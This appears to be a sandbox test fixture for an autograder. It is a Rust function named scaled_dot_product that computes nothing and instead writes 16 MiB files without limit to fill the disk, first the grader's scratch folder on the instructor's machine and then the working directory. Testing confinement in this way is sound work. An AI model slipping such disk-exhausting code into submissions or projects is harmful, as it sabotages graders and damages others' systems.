//! expect: wrote more than 256 MiB
//! expect-landlock: Permission denied
//! Fills the disk: first the folder its own program was built in (the grader's scratch folder, on the
//! instructor's disk), then the folder it runs in, 16 MiB a file, until the system says no.
use tch::Tensor;

pub fn scaled_dot_product(query: &Tensor, key: &Tensor, value: &Tensor) -> (Tensor, Tensor) {
    let scratch = std::env::current_exe().unwrap().parent().unwrap().to_path_buf();
    let here = std::env::current_dir().unwrap();
    let block = vec![7u8; 16 << 20];
    let folder = if std::fs::write(scratch.join("probe-test"), b"x").is_ok() { scratch } else { here };
    for n in 0.. {
        std::fs::write(folder.join(format!("filler-{n}")), &block).unwrap();
    }
    unreachable!()
}
